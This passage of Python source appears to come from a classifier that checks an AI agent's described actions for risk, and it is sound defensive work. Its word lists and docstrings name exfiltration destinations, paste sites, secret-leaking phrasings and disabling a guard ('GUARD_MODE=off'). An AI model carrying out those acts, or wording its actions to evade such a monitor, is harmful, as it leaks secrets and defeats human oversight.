# Tools that look for secrets: "the secret scanner" checks for leaks, it reads no secret out.
SECRET_CHECKERS = words("scanner scanners scan scanning detector detection detect linter lint audit check")
# What identifies a secret without revealing it: "only the first 4 characters", "its fingerprint".
SECRET_FRAGMENTS = words("characters chars digits prefix suffix fingerprint hash checksum length sha256 md5")
FRAGMENT_BOUNDS = words("first last only prefix suffix fingerprint hash checksum length")
_DESTINATION_PREPS = words("to into in on onto at via")


def _pronoun_object(tokens: Sequence[Tok]) -> bool:
    """"sending it out as DNS queries": a pronoun right after the verb is its object, whatever
    else the clause names (the DNS queries are the channel, not the thing sent)."""
    return any(_is_verb(a) and b.low in PRONOUNS for a, b in itertools.pairwise(tokens))


def _names_a_secret(after: Sequence[Tok]) -> bool:
    """The words after a destination-like word make it a secret's kind: "webhook secret", "personal
    access token"."""
    return bool(after) and (after[0].obj is Obj.SECRET or (
        after[0].low == "access" and len(after) > 1 and after[1].obj is Obj.SECRET))


def _destination_piece(tokens: Sequence[Tok]) -> bool:
    """", into the GitHub issue": a piece that opens with where something goes, a noun after it (even
    one that can be a verb, like "issue"), finishes the act before it."""
    return (len(tokens) >= 2 and tokens[0].low in ("into", "onto", "to", "in", "on")
            and not _is_verb(tokens[1]) and tokens[1].low not in ("order", "case"))


def _joined_object(tokens: Sequence[Tok]) -> bool:
    """", along with the uploads directory in prod", ", plus the orders table": a piece that opens by
    joining a second object to the act before it is that act's object (its place with it), so a word in
    it that could be a verb ("uploads") names a thing, not another act."""
    lows = [t.low for t in tokens[:3]]
    opener = 1 if lows[:1] == ["plus"] else 2 if lows[:2] in (["along", "with"], ["together", "with"]) \
        else 3 if lows == ["as", "well", "as"] else 0
    return bool(opener) and opener < len(tokens) and not _is_verb(tokens[opener])  # "as well as uploading …"


def _merge_verbless(clauses: list[Clause]) -> list[Clause]:
    """A comma-separated piece with no verb continues the clause before it: "putting the connection
    string, password included, in the PR description" is one action on one object, into one place."""
    out: list[Clause] = []
    for c in clauses:
        if (
            out
            and c.role == "coordinate"
            and out[-1].role in ("main", "coordinate")
            and (not any(_is_verb(t) for t in c.tokens) or _destination_piece(c.tokens)
                 or _renames_own_making(c.tokens) or _joined_object(c.tokens))
        ):
            out[-1] = Clause([*out[-1].tokens, *c.tokens], out[-1].role)
        else:
            out.append(c)
    return out
_MAKERS = words("i we")


def _renames_own_making(tokens: Sequence[Tok]) -> bool:
    """ "Dropping tmp_ab_join, the scratch table I created an hour ago": a piece that begins as a noun
    phrase and whose only verbs say who made it ("I created", "we added") renames the object before it;
    it is not a second act, and what it says (made by the agent, just now) belongs to that object."""
    maker = next((i for i, t in enumerate(tokens) if t.low in _MAKERS), 0)
    # before the maker the words are the noun phrase ("the scratch view"): a noun that is also a verb
    verbs = [i for i, t in enumerate(tokens) if i > maker and _is_verb(t)]
    return maker > 1 and tokens[0].low in DETERMINERS and bool(verbs) and all(
        tokens[i].low in SELF_MADE_VERBS and tokens[i - 1].low in _MAKERS for i in verbs)


ALLOW_WORDS = words("allow permit whitelist allowlist auto-approve approve trust")
# Files that hold names of files, not their contents: naming .env in one exposes nothing.
NAME_LISTS = words(
    ".gitignore .dockerignore .npmignore .eslintignore .prettierignore .gcloudignore .slugignore"
)

# Modals that describe a possibility: the verb after them is not done ("to see what would be
# removed"), unless they state a wish ("I would like to drop ..."), which is the plan itself.
# Words that put a quoted command in the conditional or in an explanation: it is talked about.
DESCRIBING = words("hypothetically hypothetical would could might example e.g")
DEFERRING = words("yet next later soon then afterwards after tomorrow tonight scheduled")
_RUNNABLE_SUFFIXES = (
    ".sh", ".bash", ".zsh", ".py", ".js", ".ts", ".rb", ".pl", ".ps1", ".yml", ".yaml", "makefile",
    "dockerfile", "crontab", "justfile", ".service", ".timer",
)
HYPOTHETICAL = words("would could might would've could've might've wouldn't couldn't")
WISHES = words("like love prefer want rather")

# After these words an object is where the action happens, not what it acts on: "deleting the
# __pycache__ folders in the repo" deletes caches, not the repository. Such objects count only when
# the clause names no direct object, except places that are dangerous to touch at all.
LOCATIVES = words("in inside within under from on at across throughout beneath by")
OWNING = words("of for")
# "the contents of .env", "a copy of the keys": the part named before "of" is the thing after it
PARTITIVES = words("contents content copy copies rest entirety whole files file data value values dump "
                   "export list all each every part parts subset")
# (a cloud account named as a place is where the target lives: "one Jira issue in the Atlassian org")
ALWAYS_COUNTED = frozenset({Obj.SYSTEM, Obj.DEVICE, Obj.SECRET, Obj.SECURITY, Obj.BACKUP})


_PAST_STATES = words("was were had has have is are got left broke")
_STATE_WORDS = words("been was were is are already has have had")  # "has been uploaded": a past state
_COPULAS = words("is are was were looks stays remains seems")


def _reduced_relative(tokens: Sequence[Tok], i: int, verbs: list) -> bool:
    """"inspecting the policies attached to the role": a participle after the noun it describes,
    once the clause has its verb, is not a second act."""
    t = tokens[i]
    prev = tokens[i - 1] if i else None
    return bool(verbs) and t.low.endswith("ed") and prev is not None and prev.kind == "word" and (
        prev.lem not in VERB_ACT and prev.low not in STOPWORDS and prev.low not in DETERMINERS
    )


_TELEMETRY = words("metric metrics count counts number numbers stat stats statistics rate rates error-rate "
                   "latency latencies p50 p90 p95 p99 percentile percentiles histogram timings graph graphs "
                   "panel panels trace traces 5xx 4xx details detail alert alerts event events findings "
                   "log logs")  # "pulling the last hour of logs from the api pod": read where they are
_FETCHING = words("pull grab")


_FRESH_STARTS = {("fresh", "start"), ("clean", "slate"), ("blank", "slate"), ("clean", "start")}


def _verb_act(tokens: Sequence[Tok], i: int) -> tuple[Act, str]:
    """The act of the verb at `i`, read with the words after it where they say what it really does."""
    t = tokens[i]
    if _pulls_telemetry(tokens, i):
        return Act.READ, t.lem
    if t.lem == "give" and any((a.low, b.low) in _FRESH_STARTS for a, b in itertools.pairwise(tokens[i:])):
        # "giving the live orders table a fresh start", "a clean slate": what was in it is wiped
        return Act.DESTROY, "wipe"
    if t.lem in _LOWERING and _from_to(tokens[i + 1 :]):
        # "dropping the DB instance class from r6g.2xlarge to r6g.large": a setting lowered, not deleted
        return Act.CHANGE, "resize"
    if t.lem == "export" and i + 1 < len(tokens) and "=" in tokens[i + 1].raw:
        return Act.CHANGE, "set"  # "exporting GUARD_MODE=off": a variable set, as the shell's export does
    if t.lem == "write" and any(u.low == "up" for u in tokens[i + 1 : i + 3]):
        return Act.READ, "write up"  # "to write it up": a summary of what was read
    if t.low in COMPARING and _compared_form(tokens[i + 1 :]):
        return Act.READ, "compare"  # "mirroring the bucket's lifecycle rule": done as it does; nothing copied
    if t.lem == "wire" and any(u.low in ("into", "in", "up", "through") for u in tokens[i + 1 : i + 6]):
        return Act.CHANGE, "wire"  # "wiring the secret reference into the workflow": connected, not paid
    return VERB_ACT[t.lem], t.lem


_LOWERING = words("drop cut")
# What a comparison is made to when it copies no data: a form, a rule, a way of doing
_FORMS = words("rule rules policy policies lifecycle layout format formats structure convention conventions "
               "behaviour behavior setup naming pattern patterns shape style")


def _compared_form(rest: Sequence[Tok]) -> bool:
    """"mirroring the bucket's lifecycle rule", "matching the naming convention": the verb compares the act
    to a form (no destination named, the object a rule or a shape), so nothing is copied anywhere."""
    clause = list(itertools.takewhile(lambda u: u.kind != "punct", rest))
    return not any(u.low in TOWARD_PREPOSITIONS for u in clause) and any(u.low in _FORMS for u in clause[:6])


def _from_to(tokens: Sequence[Tok]) -> bool:
    """ "… from r6g.2xlarge to r6g.large", "from 3 to 1": a value changed into another value."""
    low = [t.low for t in tokens]
    if "from" not in low or "to" not in low[low.index("from") :]:
        return False
    j = low.index("to", low.index("from"))
    after = tokens[j + 1] if j + 1 < len(tokens) else None
    return after is not None and not (after.kind == "word" and after.lem in VERB_ACT)


def _pulls_telemetry(tokens: Sequence[Tok], i: int) -> bool:
    """ "pulling the prod 5xx counts from the Grafana API": numbers pulled from a monitoring system
    are read, not a change pulled into the workspace (git pull, docker pull) or records copied out."""
    if tokens[i].lem not in _FETCHING:
        return False
    clause = list(itertools.takewhile(lambda t: t.kind != "punct", tokens[i + 1 :]))
    if any(t.low in ("into", "onto") for t in clause):
        return False  # "pulling the logs into a public gist": copied somewhere, not only read
    for t in tokens[i + 1 : i + 10]:
        if t.kind == "punct" or (t.kind == "word" and t.low in ("into", "to", "onto")):
            return False
        if t.low in _TELEMETRY or (t.subs and t.subs[-1] in _TELEMETRY):
            return True
    return False


_SIGNALS = words("sigterm sigkill sighup sigint sigquit sigstop sigusr1 sigusr2 signal kill-signal")


# Nouns that name a piece of code, and the objects a word before them only qualifies: "the refresh-token
# rotation logic", "the password reset handler", "the table tests" are code about secrets or data.
CODE_HEADS = words("logic function functions handler handlers helper helpers test tests spec specs parser "
                   "parsers class method module middleware component util utils wrapper tokenizer")
_CODE_MODIFIED = frozenset({Obj.SECRET, Obj.DATA})


def _names_code(tokens: Sequence[Tok], i: int) -> bool:
    """The word at `i` qualifies a code noun within the next two words (no preposition between)."""
    for t in tokens[i + 1 : i + 3]:
        if t.kind != "word" or t.low in STOPWORDS or t.low in LOCATIVES or t.low in _BOUNDARY_WORDS:
            return False
        if t.low in CODE_HEADS:
            return True
        if t.obj is not None:
            return False
    return False


_PAST_FORMS = words("ran did wiped dropped made put set cut shut sent wrote took broke killed")


def _past_form(t: Tok) -> bool:
    return t.low in SELF_MADE_VERBS | _STARTING | _PAST_FORMS or (t.low != t.lem and t.low.endswith("ed"))


def _made_by_agent(tokens: Sequence[Tok], i: int) -> bool:
    """"the throwaway key I generated", "the box that we brought up", "the uploader we removed": the
    agent's past act inside a relative clause on a noun says where the thing came from or what was
    already done to it; it is not an act done now."""
    t = tokens[i]
    if i < 2 or tokens[i - 1].low not in ("i", "we") or not _past_form(t):
        return False
    before = tokens[i - 2]
    if before.low in ("that", "which"):
        return True
    return before.kind != "punct" and before.low not in STOPWORDS and before.lem not in VERB_ACT and any(
        u.low in DETERMINERS for u in tokens[max(0, i - 6) : i - 1])


def _compound_noun(tokens: Sequence[Tok], i: int) -> bool:
    """"the log output", "a database dump": a verb-noun right after the thing it is about is a noun."""
    t = tokens[i]
    if i == 0 or t.obj is not None or t.low.endswith(("ing", "ed")) or t.lem not in REVEAL_WORDS:
        return False
    prev = tokens[i - 1]
    return prev.kind == "word" and prev.obj is not None and prev.lem not in VERB_ACT


_NP_OPENERS = DETERMINERS | words("which whose")
_PHRASE_REACH = 9  # a noun phrase's modifiers, at most ("the vendor's public status page text"): linear cost
_PHRASE_PREPOSITIONS = words("for of about from with without per")
_PHRASE_ENDS = words("in on at to into since before after during and or so that which")
_NOT_MODIFIERS = STOPWORDS | _BOUNDARY_WORDS | words(
    "will would should can could must may might shall do does did not never now first finally")


def _inside_noun_phrase(tokens: Sequence[Tok], i: int, has_verb: bool) -> bool:
    """"the commented-out block in main.py", "which release introduced it", "the new load balancer": a
    verb-noun inside a phrase a determiner opened (a few modifiers after it) names a thing, not an act.

    An -s form counts only once the clause has its verb, when the phrase is that verb's object
    ("stripping out the commented-out blocks"); before it, "the nightly job deletes ..." is a subject
    and its verb. A determiner, pronoun or path right after the word makes it the verb ("the tests
    delete the fixtures")."""
    t = tokens[i]
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    # "with its public-access setting.": an -ing word that ends the phrase a determiner opened is the
    # phrase's head noun; followed by anything, it may be the act ("the job, deleting the rows")
    closes = t.low.endswith("ing") and (nxt is None or (nxt.kind == "punct" and nxt.raw in ".;!?"))
    if (t.low.endswith(("ing", "ed")) and not closes) or (t.low != t.lem and not has_verb):
        return False
    if nxt is not None and (nxt.low in DETERMINERS or nxt.low in PRONOUNS or nxt.kind == "path"):
        return False
    # an -s form that ends its phrase (the clause's end, a comma, a preposition or "and" after it)
    plural = t.low != t.lem and t.low.endswith("s") and (
        nxt is None or nxt.kind == "punct" or nxt.low in _PHRASE_PREPOSITIONS | _PHRASE_ENDS)
    for j in range(i - 1, max(-1, i - _PHRASE_REACH), -1):  # until a word ends it, however many modifiers
        u = tokens[j]
        # "for failed ssh attempts": a preposition takes a noun phrase; an act after it is a gerund
        if u.low in _NP_OPENERS or (plural and j < i - 1 and u.low in _PHRASE_PREPOSITIONS):
            return True
        if u.kind == "punct" or u.low in _NOT_MODIFIERS or u.low in MARKERS.negation:
            return False
    return False


def _participle_adjective(t: Tok, nxt: Tok | None, after: Tok | None) -> bool:
    """`leaked keys`, `deleted files`: a past participle right before the thing it describes is an
    adjective ("scanning for leaked keys" leaks nothing)."""
    if not t.low.endswith("ed") or nxt is None or nxt.kind != "word":
        return False
    described = nxt if nxt.obj is not None or after is None else after  # "leaked AWS keys"
    return described.kind == "word" and described.obj is not None and described.lem not in VERB_ACT


# Words that are verbs and adjectives alike: right after another verb, before a noun, they describe
# the noun ("listing empty buckets", "finding idle instances"); as the act they take the object.
VERB_ADJECTIVES = words("empty clean clear open free idle dry close")


def _adjective_after_verb(tokens: Sequence[Tok], i: int) -> bool:
    t = tokens[i]
    prev = tokens[i - 1] if i else None
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    if (
        t.low in VERB_ADJECTIVES and prev is not None and prev.low in LINKING_VERBS
        and (nxt is None or nxt.kind == "punct" or nxt.low in _STATE_FOLLOWERS)
    ):
        return True  # "so the next build starts clean", "until the queue is empty": a state, not an act
    return (
        t.low in VERB_ADJECTIVES
        and prev is not None and prev.kind == "word" and prev.lem in VERB_ACT and prev.low != prev.lem
        and nxt is not None and nxt.low not in DETERMINERS and nxt.low not in PRONOUNS
    )


# Verbs that join a subject to its state: what follows them describes, it does not act.
LINKING_VERBS = words(
    "is are was be being been stays stay remains remain starts start comes come looks look seems seem "
    "runs becomes become gets get"
)
_STATE_FOLLOWERS = words("again and or so before after for when then")


GERUND_PREPOSITIONS = words("by after before via through while when upon")


def source_files_only(paths: Sequence[Tok]) -> bool:
    """Every path named is a source or documentation file in the project, which version control
    restores."""
    return all(t.low.endswith(SOURCE_SUFFIXES + DOC_SUFFIXES) and t.path_class in ("project", None)
               for t in paths)


DOC_SUFFIXES = (".md", ".rst", ".adoc", ".txt", ".mdx")


_STARTING = words("started launched spun ran booted triggered queued kicked brought")
_RUN_AS_NOUN = words("workflow pipeline job test ci build the a this that last failed nightly cron dry")
_TEAM_CHANNEL = re.compile(r"^#[a-z][a-z0-9_-]*[a-z0-9]$")
_BROADCAST_OR_SHARED = words("general announcements announce all company everyone random public ext external "
                             "incidents incident outages status "
                             "shared customer customers client clients partner partners vendor community")
_INTERNAL_TRACKERS = words("linear jira asana clickup shortcut youtrack")
_BULK_CLOSING = words("close lock resolve reassign merge")  # merged into one, the rest are closed
_CODE_REQUESTS = words("pr prs request requests")
_SHARED_ITEMS = words("issue issues ticket tickets pr prs request requests incident incidents alert alerts "
                      "account accounts conversation conversations thread threads case cases discussion "
                      "discussions")


_ORG_ITEMS = words("repo repos repository repositories project projects space spaces channel channels "
                   "team teams site sites")
_ORGANISATION = words("org orgs organization organisation organizations organisations company enterprise "
                      "workspace tenant")
_TEST_RUNS = words("test tests testing e2e run runs probe experiment experiments bisect benchmark repro")


def team_channels(tokens: Sequence[Tok]) -> list[str]:
    """ "#team-backend", "#inc-4471": named team channels; not a company-wide one, not one shared with
    people outside, not one the hint says hundreds read ("#engineering (900 members)": a broadcast)."""
    if _many_readers(tokens):
        return []
    return [t.raw for t in tokens if _TEAM_CHANNEL.match(t.raw)
            and not set(re.split(r"[-_]", t.raw[1:].lower())) & _BROADCAST_OR_SHARED]


_READERS = words("members member people users employees subscribers followers recipients staff")


def _many_readers(tokens: Sequence[Tok]) -> bool:
    """The hint counts a hundred or more readers ("900 members", "1,200 people")."""
    return any(t.kind == "num" and t.low.replace(",", "").isdigit() and int(t.low.replace(",", "")) >= 100
               and tokens[k + 1].low in _READERS for k, t in enumerate(tokens[:-1]))


def _for_a_test(tokens: Sequence[Tok]) -> bool:
    """ "the box I brought up for the kernel test", "for the e2e run": made for a run of this session's,
    as recent as "a minute ago" (a thing made for last year's launch is not said this way)."""
    return any(t.low == "for" and any(u.low in _TEST_RUNS for u in tokens[k + 1 : k + 5])
               for k, t in enumerate(tokens))


def _started_by_agent(frame: Frame) -> str:
    """ "the stack I started", "the server we launched": something running that the agent set going
    (a running thing is this session's: nothing started last year is still the agent's to stop)."""
    order = frame.order
    for i, word in enumerate(order):
        if word in ("i", "we") and any(w in _STARTING for w in order[i + 1 : i + 3]):
            return " ".join(order[i : i + 2])
    return ""


# What a run of the agent's own is called: "my own stuck workflow run", "left by my jest run"
_RUN_HEADS = words("run runs job jobs build builds process processes watcher watchers worker workers "
                   "test tests pipeline pipelines workflow workflows")
_ENDING = words("kill cancel stop abort interrupt halt")


def _own_run(frame: Frame) -> str:
    """ "cancelling my own stuck workflow run", "the processes left by my jest run": a run the agent set
    going, named with "my" (not "my colleague's build": another's possessive stops the reading)."""
    order = frame.order
    for i, word in enumerate(order):
        if word != "my":
            continue
        for k, later in enumerate(order[i + 1 : i + 5], start=i + 1):
            if later.endswith(("'s", "s'")) or later in ("of", "for", "from"):
                break
            if later in _RUN_HEADS:
                return " ".join(order[i : k + 1])
    return ""


def _one_pid(frame: Frame) -> str:
    """ "pid 31337", "PID 4242", "kill 48213", "kill -15 48213": one process named by its id (not 1,
    which is init and all it runs; not -1, which is every process)."""
    order = [w for w in frame.order if not _SIGNAL.match(w)]
    for k, (word, nxt) in enumerate(itertools.pairwise(order)):
        if word in ("pid", "kill") and nxt.isdigit() and int(nxt) > 1:
            return "" if order[k + 2 : k + 3] and order[k + 2].isdigit() else nxt  # "kill 1 2 3": several
    return ""


_MACHINES = words("server servers host hosts box machine machines node nodes vm instance runner runners "
                  "bastion workstation")


def _shared_machine(frame: Frame) -> bool:
    """ "on the shared batch server": a machine others run their work on, where a process picked by its id
    may be another person's job, not one the agent can restart."""
    order = frame.order
    return any(w == "shared" and set(order[k + 1 : k + 3]) & _MACHINES for k, w in enumerate(order))


def _init_or_every_pid(frame: Frame) -> bool:
    """ "pid 1", "PID 1", "kill -9 1", "kill -- -1": init (which every process hangs from) or every
    process the user may signal."""
    order = [w for w in frame.order if not _SIGNAL.match(w) and w != "--"]
    return any(word in ("pid", "kill") and nxt in ("1", "-1") for word, nxt in itertools.pairwise(order))


_IN_A_CONTAINER = words("container containers pod pods docker sidecar")


def _beyond(tokens: Sequence[Tok], i: int) -> bool:
    """ "all Jira projects, not just the sandbox ones", "not only staging": the environment named is
    part of the reach, which goes past it, so it caps nothing."""
    before = [t.low for t in tokens[max(0, i - 4):i]]
    return any(a == "not" and b in ("just", "only", "merely") for a, b in itertools.pairwise(before))


def _future_auxiliary(tokens: Sequence[Tok], i: int) -> bool:
    """ "going to commit", "about to push": "going" only says the next verb comes."""
    if tokens[i].lem != "go" or i + 2 >= len(tokens) or tokens[i + 1].low != "to":
        return False
    after = tokens[i + 2]
    return after.kind == "word" and after.lem in VERB_ACT


def _after_auxiliary(tokens: Sequence[Tok], i: int) -> bool:
    return i >= 2 and tokens[i - 1].low == "to" and tokens[i - 2].low in _INTENDING


_INTENDING = words("going about want wants need needs plan plans planning try trying have has")


_FILTERING = words("filter filtered filtering group grouped grouping sort sorted sorting match matched "
                   "matching select selected selecting keyed indexed split")


def _named_after_preposition(tokens: Sequence[Tok], i: int) -> bool:
    """ "filtered on tag env=prod", "grouped by label": after a filtering verb and its preposition, a base
    form names the field the rows are picked by, not an act (a gerund there, "by tagging", is one)."""
    t = tokens[i]
    return (i >= 2 and tokens[i - 1].low in ("on", "by") and tokens[i - 2].low in _FILTERING
            and t.low == t.lem and not t.low.endswith("ing"))


# Words before "'s" that make it a contraction of "is"/"us" ("it's done", "let's delete"), not an owner
_CONTRACTED_S = words("it that what there here let he she who where how this which when why everything "
                      "nothing something everyone someone nobody all")


def _owned_noun(tokens: Sequence[Tok], i: int) -> bool:
    """ "last week's refunds", "the customer's charges": a word right after an owner's "'s" is the thing
    owned, a noun, whatever verb it also spells (a contraction, "let's delete", "it's deleting", is not;
    nor is a noun made from the verb to name the act, "the employee's termination")."""
    low = tokens[i].low
    if i == 0 or low in ACT_NOUNS or low[:-1] in ACT_NOUNS:
        return False  # "E-2043's termination": a noun made to name the act, which is still the act
    prev = tokens[i - 1].low.replace("\u2019", "'")
    return prev.endswith("'s") and prev[:-2] not in _CONTRACTED_S


def _noun_use(tokens: Sequence[Tok], i: int) -> bool:
    """A word that is both verb and noun ("email", "post", "backup") is a noun after a determiner or
    "of", or when another verb came before it in the clause."""
    if i == 0:
        return False
    if tokens[i - 1].low in DETERMINERS or tokens[i - 1].low == "of":
        return True
    if tokens[i].low.endswith("ing") and tokens[i - 1].low in GERUND_PREPOSITIONS:
        return False  # "by posting the keys", "after sending it": a gerund is the act itself
    if _after_auxiliary(tokens, i):
        return False  # "going to commit the refactor": the act, not a commit
    return any(t.kind == "word" and t.lem in VERB_ACT for t in tokens[:i])


@dataclass
class Context:
    """Facts about the whole hint that every clause's judgement may use."""

    prod: list[str]
    nonprod: list[str]
    external_dest: list[str]
    untrusted_source: list[str]
    customer: list[str]
    registry: list[str]
    self_made: list[str] = field(default_factory=list)  # "the file I created a minute ago"
    regenerated: list[str] = field(default_factory=list)  # "(make proto regenerates them)"
    prod_source: list[str] = field(default_factory=list)  # "with last night's production snapshot"
    started: list[str] = field(default_factory=list)  # "the run that I triggered", "the stack we started"
    tracked: bool = False  # "it's tracked in git", "everything in it is committed"
    bounded: bool = False  # "for 2h", "until the fix lands": a pause that ends
    oversight: list[str] = field(default_factory=list)  # "before the customer's audit": who will look
    shared_history: list[str] = field(default_factory=list)  # "... and pushing": into a shared history
    sensitive: list[str] = field(default_factory=list)  # "the HR salary sheet": people's records
    spend: list[str] = field(default_factory=list)  # "(about $9k)", "paid ... no budget cap": money committed
    contained: bool = False  # "to restart the container": the hint acts inside a container, not the host
    merged: bool = False  # "it was merged through PR #611": the branch's commits live on elsewhere
    hosted: list[str] = field(default_factory=list)  # "quickbooks:", "in Salesforce": a system of record
    team_product: list[str] = field(default_factory=list)  # "the Slack admin API": whose workspace it is
    fetched_from: list[str] = field(default_factory=list)  # "the installer from get.docker.com": a source


def _context(tokens: Sequence[Tok]) -> Context:
    prod: list[str] = []
    nonprod: list[str] = []
    dest: list[str] = []
    fetched_from: list[str] = []
    untrusted: list[str] = []
    customer: list[str] = []
    registry: list[str] = []
    self_made: list[str] = []
    regenerated: list[str] = []
    prod_setting: list[str] = []  # ENV=production: which configuration, not which place
    prod_source: list[str] = []
    source = False  # inside "with ..." / "from ...": where something comes from
    refused = 0  # "not touching prod", "skipping the prod database": a place named to be avoided
    own_stack = _OWN_LOCAL_STACK.search(" ".join(t.low for t in tokens))
    for i, t in enumerate(tokens):
        if t.kind == "punct":
            refused = 0
        elif t.kind == "word" and t.low in MARKERS.negation:
            # "no" before a noun refuses that thing ("with no WHERE clause on production": the clause,
            # not the place); a negated verb refuses the place it names ("not touching prod")
            refused = 2 if t.low == "no" else 4
            continue
        elif refused:
            refused -= 1
            if t.kind == "word" and t.low in MARKERS.prod:
                continue
        # "sg-0prod-db": a part of a name counts without the digits glued before it
        names = (t.low,) if t.kind == "word" else tuple(n.lstrip("0123456789") or n for n in t.subs)
        if t.kind == "flag" and "=" in t.low and not names:
            key, _, value = t.low.partition("=")
            if key.lstrip("-") in _ENV_FLAGS:  # --env=production, --stage=prod: where the command acts
                names = tuple(p for p in re.split(r"[^a-z0-9]+", value) if p)
        if t.kind == "punct" or (t.kind == "word" and t.lem in VERB_ACT):
            source = False
        elif t.kind == "word" and t.low in ("with", "from") and not (
                t.low == "with" and i and tokens[i - 1].low in _JOINING):
            source = True  # "along with", "together with" join a second object: not what it comes from
        elif t.kind == "word" and t.low in ("on", "against", "into"):
            source = False  # "with no WHERE clause on production": where it runs, after what it runs with
        if t.kind == "word" and t.low in ("i", "we") and any(
            u.low in SELF_MADE_VERBS for u in tokens[i + 1 : i + 4]
        ):
            self_made.append(" ".join(u.raw for u in tokens[i : i + 3]))
        if t.low in REGENERATED and (t.low.startswith(("generated", "auto")) or any(
            u.low in PRONOUNS for u in tokens[i + 1 : i + 3]
        )):
            regenerated.append(t.raw)
        if t.kind != "word" and _ASSIGN.match(t.raw) and set(names) & MARKERS.prod:
            prod_setting.append(t.raw)
            continue
        if source and t.kind == "word" and t.low in MARKERS.prod:
            prod_source.append(t.raw)
            continue
        if t.kind == "ident" and t.raw.startswith("#"):
            names = ()  # "#eng-prod": a chat channel's name says who reads it, not which environment
        if t.kind == "path" and t.path_class == "project" and "." in t.low.rstrip("/").rsplit("/", 1)[-1]:
            # config/production.yaml is a file in the project, not the production system; a directory
            # (infra/live, envs/prod) is where an environment's configuration lives, and names it
            names = ()
        if not_the_place(tokens, i):
            continue  # "prod is untouched", "which mirrors production": not where the act happens
        for k, name in enumerate(names):
            after = names[k + 1] if k + 1 < len(names) else _next_low(tokens, i)
            if name in MARKERS.prod and (after in _NOT_AN_ENVIRONMENT
                                         or (name == "primary" and (after in _NOT_THE_PRIMARY or own_stack))):
                continue  # "live-reload", "production-like", "prod-ready": a quality, not a place
            if name in MARKERS.prod and not (
                name == "live" and _next_low(tokens, i) in ("reload", "preview", "demo", "stream")
            ):
                prod.append(t.raw)
            elif name in MARKERS.nonprod and not (name == "scratch" and i and tokens[i - 1].low == "from") \
                    and not _beyond(tokens, i) and not _DOCUMENTATION_DOMAIN.search(t.low):
                nonprod.append(t.raw)  # "starting from scratch" is anew, not a scratch environment
            if name in MARKERS.customer:
                customer.append(t.raw)
            if name in MARKERS.registry:
                registry.append(t.raw)
        if (t.low, _next_low(tokens, i)) in REGISTRY_PHRASES:  # "Docker Hub"
            registry.append(f"{t.raw} {tokens[i + 1].raw}")
        if t.kind == "ident" and _EMAIL.match(t.raw) and not _is_local(t.raw.rsplit("@", 1)[1]):
            # an address on a personal mail service (gmail.com), or on another organisation's domain
            # ("leads@partner-growth.biz"): what is mailed there is held outside, as a post to that host is
            dest.append(t.raw)
        if t.kind != "url" and t.low.rstrip("/.") in PASTE_HOSTS:
            dest += [t.raw, "public"]  # "a transfer.sh link", "0x0.st": a paste site named bare
        if t.kind == "word":
            if t.low in MARKERS.exfil_destination and not _names_a_secret(tokens[i + 1 : i + 3]) and not (
                    names_the_source(tokens, i)) and not (
                    t.low == "personal" and _next_low(tokens, i) in _ABOUT_A_PERSON) and not (
                    t.low == "paste" and _next_low(tokens, i) in DETERMINERS | PRONOUNS):
                # "the webhook secret", "a personal access token": a kind of secret; "personal data":
                # what is known about a person, not a personal account; "paste the token": a verb
                dest.append(t.low)
            if t.low in MARKERS.untrusted_source:
                untrusted.append(t.low)
            if (t.low == "raw" and _next_low(tokens, i) in ("ip", "ips", "address")) or (
                t.low == "ip" and _next_low(tokens, i) in ("address", "addresses")
            ):
                untrusted.append("a bare IP address")
        elif t.kind in ("url", "host", "ip"):
            host = t.subs[-1] if t.subs else t.low
            if _is_local(host):
                continue
            if address_is_source(tokens, i):  # copied or downloaded from it: judged where it lands
                fetched_from.append(t.raw)
            else:
                dest.append(t.raw)
                if _public_endpoint(host.split(":")[0]):
                    dest.append("public")  # a request bin or a paste site: whoever has the URL reads it
            # as on a command line: a bare IP, plain http, a shortener or a paste site vouches for nothing
            if t.kind == "ip" or _IPV4.match(host) or t.low.startswith(("http://", "ftp://")) \
                    or untrusted_host(host.split(":")[0]):
                untrusted.append(t.raw)
    if not any(t.low in RECENT for t in tokens) and not _for_a_test(tokens):
        self_made = []  # "the table we created last year" is not the agent's scratch
    if not nonprod:  # nothing else names a place: the setting and the source are all there is
        prod += prod_setting + prod_source
        prod_source = []
    started = [f"{t.low} {tokens[i + 1].low}" for i, t in enumerate(tokens[:-1])
               if t.low in ("i", "we") and tokens[i + 1].low in _STARTING]
    if _own_image_registry(tokens, registry):
        registry = []
    return Context(prod, nonprod, dest, untrusted, customer, registry, self_made, regenerated, prod_source,
                   started, fetched_from=fetched_from)


_IMAGES = words("image images container containers docker oci")
_MOVING_TAGS = words("latest stable prod production live current")


def _own_image_registry(tokens: Sequence[Tok], registry: list[str]) -> bool:
    """ "pushing the release image to the registry as v2.8.0-rc1": the bare word "registry" for an
    image is the team's own container registry, and a new version tag there is a build artifact stored,
    as a branch push is. A public registry is named ("the public registry", Docker Hub, npm), and a tag
    others pull by name (`latest`, `prod`) moves what they run."""
    lows = {t.low for t in tokens}
    return (bool(registry) and all(r.lower() == "registry" for r in registry) and bool(lows & _IMAGES)
            and not lows & (MARKERS.public | {"shared"})
            and not any(t.low.rsplit(":", 1)[-1] in _MOVING_TAGS for t in tokens))


_ABOUT_A_PERSON = words("data information info details records record")
# "X along with Y", "X together with Y": a second object of the same act, with its own place
_JOINING = words("along together")
_ENV_FLAGS = words("env environment stage target context profile tier cluster namespace workspace")
_NOT_AN_ENVIRONMENT = words("reload like ready grade quality style ish preview demo stream")
# "the primary Postgres in my docker compose stack": a member's role in a stack on the agent's own machine,
# not the live database ("from my laptop" is where the agent works, not where the primary runs)
_OWN_LOCAL_STACK = re.compile(
    r"\b(?:in|on|inside|within|of)\s+(?:(?:my|our)\s+(?:own\s+)?(?:local\s+)?(?:docker[- ]compose|compose"
    r"|docker|minikube|kind|laptop|local)|the\s+local\s+(?:docker|compose|stack|dev))\b|\b(?:in|on)\s+localhost\b")
# "the primary key", "the primary on-call": not the primary database
_NOT_THE_PRIMARY = words("key keys on-call oncall color colour button index indexes constraint source reason "
                         "goal contact region owner school")


def environment(tokens: Sequence[Tok]) -> tuple[list[str], list[str]]:
    """The production and non-production words of a token stream (identifiers included)."""
    ctx = _context(tokens)
    return ctx.prod, ctx.nonprod


def _next_low(tokens: Sequence[Tok], i: int) -> str:
    return tokens[i + 1].low if i + 1 < len(tokens) else ""


_LIVE_SECRET = re.compile(
